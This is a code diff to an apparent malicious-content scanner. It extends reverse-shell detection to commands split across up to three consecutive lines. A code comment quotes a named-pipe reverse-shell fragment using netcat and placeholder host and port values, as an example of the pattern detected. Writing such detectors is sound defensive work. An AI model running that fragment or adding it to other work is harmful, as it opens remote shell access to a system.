@@ -34,6 +34,8 @@ MAX_BYTES = 256 * 1024  # bytes of a file judged line by line (YARA sees it all)
 MAX_LINES = 20_000  # lines judged per file
 MAX_JOINED = 64 * 1024  # characters of continuation lines joined into one
 TEXT_PROBE = 8192  # a NUL in the first bytes: not a text file
+WINDOWED = frozenset({"tunnel.reverse_shell"})  # also judged over WINDOW consecutive lines
+WINDOW = 3  # mkfifo on one line, `nc H P </tmp/f | sh >/tmp/f` on the next
 # a line that cannot run: `//tmp/x` runs in a shell (it is /tmp/x), a `;`-led one does not
 COMMENTS = ("#", ";")
 # shell files, units and command-holding configs; data formats (JSON, YAML, text) are
@@ -141,29 +143,41 @@ def line_hits(cat: Catalogue, data: bytes | bytearray) -> list[LineHit]:
     # one pass over the whole text first (continuations joined): a line can only hold a
     # rule the whole text holds (the rules' fields are monotone; tunnel.ssh_* look at the
     # line that reports), and most files hold none: they cost one evaluation, not one a line
-    if not text.matches(cat, whole.replace("\\\n", " ")):
+    held = {m.rule.id for m in text.matches(cat, whole.replace("\\\n", " "))}
+    if not held:
         return []
     best: dict[str, LineHit] = {}
     counts: dict[str, int] = {}
-    for number, line in judged_lines(whole):
-        for m in text.matches(cat, line):
-            if ARGV_ONLY in m.rule.tags:
-                continue
-            rid = m.rule.id
-            counts[rid] = counts.get(rid, 0) + 1
-            old = best.get(rid)
-            if old is None or m.severity > old.severity:
-                best[rid] = LineHit(
-                    rid,
-                    m.rule.category,
-                    m.severity,
-                    m.summary,
-                    number,
-                    0,
-                    excerpt([line])[0],
-                    m.evidence,
-                )
+    lines = list(judged_lines(whole))
+    for number, line in lines:
+        judge(cat, number, line, best, counts)
+    if held & WINDOWED - best.keys():  # a fifo shell over consecutive lines
+        for i, (number, _) in enumerate(lines):
+            window = "; ".join(line for _, line in lines[i : i + WINDOW])
+            judge(cat, number, window, best, counts, only=WINDOWED)
     return [replace(h, lines=counts[h.rule]) for h in best.values()]
+
+
+def judge(
+    cat: Catalogue,
+    number: int,
+    line: str,
+    best: dict[str, LineHit],
+    counts: dict[str, int],
+    only: frozenset[str] | None = None,
+) -> None:
+    """The text rules that hold on one line (or window of lines), into best and counts."""
+    for m in text.matches(cat, line):
+        rid = m.rule.id
+        if ARGV_ONLY in m.rule.tags or (only is not None and rid not in only):
+            continue
+        counts[rid] = counts.get(rid, 0) + 1
+        old = best.get(rid)
+        if old is None or m.severity > old.severity:
+            best[rid] = LineHit(
+                rid, m.rule.category, m.severity, m.summary, number, 0, excerpt([line])[0],
+                m.evidence,
+            )  # fmt: skip
 
 
 def findings(hits: list[LineHit], file: FileFacts, process: Proc | None = None) -> list[Finding]:
